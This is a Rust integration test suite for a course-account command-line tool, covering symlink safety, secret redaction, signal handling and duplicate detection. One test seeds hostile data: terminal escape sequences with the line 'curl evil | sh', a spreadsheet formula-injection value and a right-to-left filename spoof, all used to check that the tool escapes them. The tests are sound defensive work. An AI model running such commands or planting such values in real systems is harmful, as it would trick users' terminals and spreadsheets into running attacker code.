//! The command line against careless admins and hostile input (issue 25): nothing the user gave is
//! lost, nothing secret or personal leaks, the terminal is never tricked, and every interruption
//! leaves truthful output. Each test drives the binary against the stand-in (through the fault proxy
//! where a slow or failing server is needed) and failed on the code before the change it guards.

use std::process::Stdio;
use std::time::Duration;

use waldur_course_accounts_testkit::faults::{FaultPlan, FaultProxy};
use waldur_course_accounts_testkit::standin::{State, seed};
use waldur_course_accounts_testkit::{Flavour, StandIn, Waldur};

mod common;
use common::*;

fn roster_of(dir: &std::path::Path, n: usize, prefix: &str) -> String {
    let emails: String = (0..n).map(|i| format!("{prefix}{i}@example.edu\n")).collect();
    write(dir, "class.csv", format!("email\n{emails}").as_bytes())
}

/// A proxy that delays every request matching `method` and `target` by `by`.
async fn slow(waldur: &StandIn, method: &str, target: &str, by: Duration) -> FaultProxy {
    let plan = FaultPlan { slow: 1000, slow_by: by, only: Some((method.into(), target.into())), ..FaultPlan::none(5) };
    FaultProxy::start(waldur.addr(), plan).await.unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_report_that_would_replace_the_roster_is_refused_before_anything_is_read() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("d")).unwrap();
    let roster = write(&dir.path().join("d"), "roster.csv", b"email\nada@example.edu\n");
    let other_spelling = dir.path().join("d/../d/./roster.csv");
    for report in [roster.clone(), other_spelling.to_str().unwrap().to_string()] {
        let out = run(&waldur, &["import", "--project", &project(), &roster, "--report", &report]).await;
        assert_eq!(out.status.code(), Some(2), "{}", text(&out.stdout));
        assert!(text(&out.stderr).contains("is the roster this command reads"), "{}", text(&out.stderr));
        assert_eq!(std::fs::read_to_string(&roster).unwrap(), "email\nada@example.edu\n");
    }
    assert!(waldur.requests().is_empty(), "refused before anything was read or sent");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_planted_link_beside_the_report_is_never_followed() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 3, "linked");
    let precious = dir.path().join("precious.txt");
    std::fs::write(&precious, "keep me").unwrap();
    // The names a predictable temporary file could have had.
    for name in ["report.json.partial", "report.json.tmp", ".report.json.partial"] {
        std::os::unix::fs::symlink(&precious, dir.path().join(name)).unwrap();
    }
    let report = dir.path().join("report.json");
    let out = run(&waldur, &["import", "--project", &project(), &roster, "--report", report.to_str().unwrap()]).await;
    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "keep me");
    let written: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    assert_eq!(written["summary"]["created"], 3);
    // And a report path that is itself a link is refused, the file it points to untouched.
    let link = dir.path().join("link.json");
    std::os::unix::fs::symlink(&precious, &link).unwrap();
    let out = run(&waldur, &["import", "--project", &project(), &roster, "--report", link.to_str().unwrap()]).await;
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("symbolic link"), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "keep me");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_secret_in_help_manual_or_completions() {
    let secret = "s3cr3t-pass";
    let mut outputs = Vec::new();
    let commands: [&[&str]; 7] = [
        &["--help"],
        &["import", "--help"],
        &["list", "--help"],
        &["close", "--help"],
        &["man"],
        &["completions", "bash"],
        &["completions", "zsh"],
    ];
    for args in commands {
        let out = std::process::Command::new(bin())
            .args(args)
            .env("WALDUR_URL", format!("https://admin:{secret}@waldur.example.edu"))
            .env("WALDUR_TOKEN", "tok-never-shown-123")
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
        outputs.push((args, text(&out.stdout) + &text(&out.stderr)));
    }
    for (args, output) in outputs {
        assert!(!output.contains(secret) && !output.contains("tok-never-shown"), "{args:?} shows a secret");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_roster_without_a_header_is_named_without_echoing_a_student() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let long = "x".repeat(1_000_000);
    let roster =
        write(dir.path(), "r.csv", format!("Ada,ada.private@example.edu,{long}\nBo,bo@example.edu,y\n").as_bytes());
    let out = run(&waldur, &["import", "--project", &project(), &roster]).await;
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr.contains("looks like a student's row, not a header"), "{stderr}");
    assert!(!stderr.contains("ada.private") && stderr.len() < 400, "{} bytes: {stderr:.400}", stderr.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn every_command_ends_quietly_with_141_on_a_closed_pipe() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V7_8_7, 40)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 5, "piped");
    let uuid = waldur.with_state(|w| w.accounts[0].uuid.to_string());
    let commands: [&[&str]; 6] = [
        &["count"],
        &["import", "--project", &project(), &roster],
        &["close", &uuid],
        &["completions", "bash"],
        &["man"],
        &["list", "--format", "table"],
    ];
    for args in commands {
        let out = run_with_stdout_closed(cli(&waldur, args)).await;
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(141), "{args:?}: {stderr}");
        assert!(!stderr.contains("panicked") && !stderr.contains("Broken pipe"), "{args:?}: {stderr}");
    }
    // A closed output stops a command as an interrupt does: the import found it at its first line,
    // before it sent anything.
    assert!((0..5).all(|i| accounts_with(&waldur, &format!("piped{i}@example.edu")) == 0));
}

#[tokio::test(flavor = "multi_thread")]
async fn close_all_interrupted_logs_each_close_as_it_happens_and_a_truthful_summary() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V7_8_7, 0)).await.unwrap();
    waldur.with_state(|w| (0..400).for_each(|i| _ = w.add(0, &format!("c{i}@example.edu"), "", State::Ok)));
    let proxy = slow(&waldur, "DELETE", "/api/marketplace-course-accounts/", Duration::from_millis(20)).await;
    let mut command = cli(&waldur, &["close", "--project", &project(), "--all", "--yes", "--concurrency", "2"]);
    command.env("WALDUR_URL", proxy.base_url());
    let out = run_and_signal(command, Duration::from_millis(500), libc::SIGINT).await;
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(130), "{stdout}{stderr}");
    let logged: Vec<&str> = stdout.lines().filter_map(|l| l.strip_suffix(": closed")).collect();
    let closed = waldur.with_state(|w| w.accounts.iter().filter(|a| a.state == State::Closed).count());
    assert!(!logged.is_empty() && closed < 400, "interrupted midway: {closed} closed");
    assert_eq!(logged.len(), closed, "one line per account closed, none missing, none invented");
    assert!(stdout.contains(&format!("summary: {closed} closed, 0 already closed")), "{stdout}");
    assert!(stdout.contains(&format!("{} not attempted", 400 - closed)), "{stdout}");
    assert!(stderr.contains("interrupted"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread")]
async fn list_json_stopped_by_sigterm_is_still_a_closed_array() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 300)).await.unwrap();
    let proxy = slow(&waldur, "GET", "/api/marketplace-course-accounts/", Duration::from_millis(100)).await;
    let mut command = cli(&waldur, &["list", "--format", "json", "--page-size", "5"]);
    command.env("WALDUR_URL", proxy.base_url());
    // It prints nothing before the end (its output is buffered): the signal comes once the server has
    // answered a few pages.
    let listing = || proxy.injected().len() >= 3;
    let out = run_and_signal_when(command, listing, Duration::from_millis(200), libc::SIGTERM).await;
    assert_eq!(out.status.code(), Some(130), "{}", text(&out.stderr));
    let listed: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("well-formed JSON");
    assert!(!listed.is_empty() && listed.len() < 300, "{}", listed.len());
    assert!(text(&out.stderr).contains("interrupted: the list is incomplete"));
}

#[tokio::test(flavor = "multi_thread")]
async fn import_stopped_by_sighup_writes_a_truthful_report() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V7_8_7, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 200, "hup");
    let report = dir.path().join("report.json");
    let proxy = slow(&waldur, "POST", "/create_bulk/", Duration::from_millis(250)).await;
    let args = ["import", "--project", &project(), &roster, "--chunk-size", "10", "--report", report.to_str().unwrap()];
    let mut command = cli(&waldur, &args);
    command.env("WALDUR_URL", proxy.base_url());
    let out = run_and_signal(command, Duration::from_millis(700), libc::SIGHUP).await;
    assert_eq!(out.status.code(), Some(130), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("interrupted"));
    let report: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    assert_eq!(report["finished"], false);
    for row in report["rows"].as_array().unwrap() {
        let on_server = accounts_with(&waldur, row["email"].as_str().unwrap());
        match row["status"].as_str().unwrap() {
            "created" => assert_eq!(on_server, 1, "{row}"),
            "not_attempted" => assert_eq!(on_server, 0, "{row}"),
            "uncertain" => assert!(on_server <= 1, "{row}"),
            other => panic!("{other}: {row}"),
        }
    }
    assert!(report["summary"]["created"].as_u64().unwrap_or(0) > 0, "{}", report["summary"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_interrupt_before_anything_was_sent_says_so_and_writes_the_report() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 20, "early");
    let report = dir.path().join("report.json");
    let proxy = slow(&waldur, "GET", "/api/marketplace-course-accounts/", Duration::from_secs(5)).await;
    let mut command = cli(&waldur, &["import", "--project", &project(), &roster, "--report", report.to_str().unwrap()]);
    command.env("WALDUR_URL", proxy.base_url());
    // Nothing is printed while the project is read (5 s here): the signal comes once the server has
    // the read.
    let reading = || !proxy.injected().is_empty();
    let out = run_and_signal_when(command, reading, Duration::from_millis(200), libc::SIGTERM).await;
    assert_eq!(out.status.code(), Some(130), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("nothing was sent"), "{}", text(&out.stderr));
    let report: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    assert_eq!(report["summary"]["not_attempted"], 20, "{}", report["summary"]);
    assert_eq!(report["finished"], false);
    assert_eq!(writes(&waldur), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn text_from_the_server_is_shown_escaped_and_csv_is_safe_in_a_spreadsheet() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    waldur.with_state(|w| {
        w.projects[0].name = "Course\u{1b}[2J\u{1b}[1;1HRun: curl evil | sh".into();
        w.add(0, "=HYPERLINK(\"http://evil\")@example.edu", "", State::Ok);
        w.add(0, "abc\u{202e}gpj.exe@example.edu", "", State::Ok);
    });
    for format in ["table", "csv", "json"] {
        let out = run(&waldur, &["list", "--format", format]).await;
        assert!(out.status.success());
        let stdout = text(&out.stdout);
        assert!(!stdout.contains('\u{1b}') && !stdout.contains('\u{202e}'), "{format}: {stdout}");
        if format == "csv" {
            assert!(stdout.contains("'=HYPERLINK"), "{stdout}");
        }
        if format == "json" {
            let listed: Vec<serde_json::Value> = serde_json::from_str(&stdout).unwrap();
            assert!(listed.iter().any(|a| a["project_name"].as_str().unwrap().contains('\u{1b}')), "same value");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_with_an_invisible_character_is_not_a_second_student() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V7_8_7, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = write(dir.path(), "r.csv", "email\nada@example.edu\na\u{200B}da@example.edu\n".as_bytes());
    let out = run(&waldur, &["import", "--project", &project(), &roster]).await;
    assert_eq!(out.status.code(), Some(3), "{}{}", text(&out.stdout), text(&out.stderr));
    assert!(text(&out.stderr).contains("line 3: the email contains an invisible character (U+200B)"));
    assert_eq!(waldur.with_state(|w| w.accounts.len()), 1, "one student, one account");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refusal_of_the_project_stops_after_the_first_chunk_without_rerun_advice() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 30, "wrong");
    for project in [seed::non_course_project(), seed::id(1, 999)] {
        let before = writes(&waldur);
        let out = run(&waldur, &["import", "--project", &project.to_string(), &roster, "--chunk-size", "10"]).await;
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert_eq!(out.status.code(), Some(2), "{stdout}{stderr}");
        assert_eq!(writes(&waldur) - before, 1, "one chunk sent, not three");
        assert!(stderr.contains("Check --project"), "{stderr}");
        assert!(!stdout.contains("run the same command again"), "{stdout}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_second_import_of_the_project_at_once_is_refused_and_reconcile_lists_duplicates() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V7_8_7, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 60, "twice");
    let proxy = slow(&waldur, "POST", "/create_bulk/", Duration::from_millis(300)).await;
    let args = ["import", "--project", &project(), &roster, "--chunk-size", "10"];
    let mut first = cli(&waldur, &args);
    first.env("WALDUR_URL", proxy.base_url()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut first = first.spawn().unwrap();
    // Its first line comes once it holds the lock and has read the project; its chunks take 300 ms each.
    let mut stdout = std::io::BufReader::new(first.stdout.take().unwrap());
    let plan_line = tokio::task::spawn_blocking(move || {
        let mut line = String::new();
        std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
        (line, stdout)
    })
    .await
    .unwrap();
    assert!(plan_line.0.contains("60 to create"), "{}", plan_line.0);
    let mut second = cli(&waldur, &args);
    second.env("WALDUR_URL", proxy.base_url());
    let second = tokio::task::spawn_blocking(move || second.output().unwrap()).await.unwrap();
    assert_eq!(second.status.code(), Some(2), "{}", text(&second.stdout));
    assert!(text(&second.stderr).contains("is changing project"), "{}", text(&second.stderr));
    let first = tokio::task::spawn_blocking(move || {
        let rest = std::io::read_to_string(plan_line.1).unwrap();
        let mut out = first.wait_with_output().unwrap();
        out.stdout = rest.into_bytes();
        out
    })
    .await
    .unwrap();
    assert_eq!(first.status.code(), Some(0), "{}", text(&first.stderr));
    assert!((0..60).all(|i| accounts_with(&waldur, &format!("twice{i}@example.edu")) == 1));

    // Two accounts for one student (made by another machine): reconcile names both, exit 1.
    let extra = waldur.with_state(|w| {
        let i = w.add(0, "twice3@example.edu", "", State::Ok);
        w.accounts[i].uuid.to_string()
    });
    let out = run(&waldur, &["reconcile", "--project", &project(), &roster, "--format", "json"]).await;
    assert_eq!(out.status.code(), Some(1));
    let found: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let several = found["several_open"].as_array().unwrap();
    assert_eq!(several.len(), 1, "{found}");
    assert_eq!(several[0]["email"], "twice3@example.edu");
    assert!(several[0]["accounts"].as_array().unwrap().iter().any(|a| a == &serde_json::json!(extra)));
}

#[tokio::test(flavor = "multi_thread")]
async fn formats_a_command_cannot_produce_are_refused() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster = roster_of(dir.path(), 1, "f");
    for args in [
        vec!["reconcile", "--project", &project(), &roster, "--format", "csv"],
        vec!["get", "00000000-0000-4000-8002-000000000001", "--format", "csv"],
    ] {
        let out = run(&waldur, &args).await;
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(text(&out.stderr).contains("invalid value 'csv'"), "{}", text(&out.stderr));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn rows_the_reader_cannot_interpret_are_reported_and_not_sent() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let roster =
        write(dir.path(), "r.csv", b"Name,Email,Group\nTim,tim@uni.example,edu,Lab C\nAda,ada@uni.example,Lab A\n");
    let out = run(&waldur, &["import", "--project", &project(), &roster]).await;
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stdout));
    assert!(text(&out.stderr).contains("line 2: has 4 fields where the header has 3"), "{}", text(&out.stderr));
    assert_eq!(bulk_sent(&waldur), ["ada@uni.example"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn roster_conveniences_stdin_column_hints_and_url_hints() {
    let waldur = StandIn::start(Waldur::seeded(Flavour::V8_1, 0)).await.unwrap();
    // `-` reads standard input, tab-separated here.
    let mut command = cli(&waldur, &["import", "--project", &project(), "-"]);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), b"Name\tEmail\nAda\tstdin.ada@example.edu\n").unwrap();
    let out = tokio::task::spawn_blocking(move || child.wait_with_output().unwrap()).await.unwrap();
    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
    assert_eq!(accounts_with(&waldur, "stdin.ada@example.edu"), 1);

    let dir = tempfile::tempdir().unwrap();
    let suggest = write(dir.path(), "a.csv", b"Name,E-Mail Address\nA,a@example.edu\n");
    let out = run(&waldur, &["import", "--project", &project(), &suggest]).await;
    assert!(text(&out.stderr).contains("--email-column \"E-Mail Address\""), "{}", text(&out.stderr));
    let two = write(dir.path(), "b.csv", b"Mail,E-Mail\na@example.edu,b@example.edu\n");
    let out = run(&waldur, &["import", "--project", &project(), &two]).await;
    assert!(text(&out.stderr).contains("2 columns could be the email column"), "{}", text(&out.stderr));

    for (url, hint) in [("waldur.example.edu", "has no scheme"), ("https://waldur.example.edu/api/", "ends in /api")] {
        let mut command = cli(&waldur, &["count"]);
        command.env("WALDUR_URL", url);
        let out = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
        assert_eq!(out.status.code(), Some(2));
        assert!(text(&out.stderr).contains(hint), "{url}: {}", text(&out.stderr));
    }
}
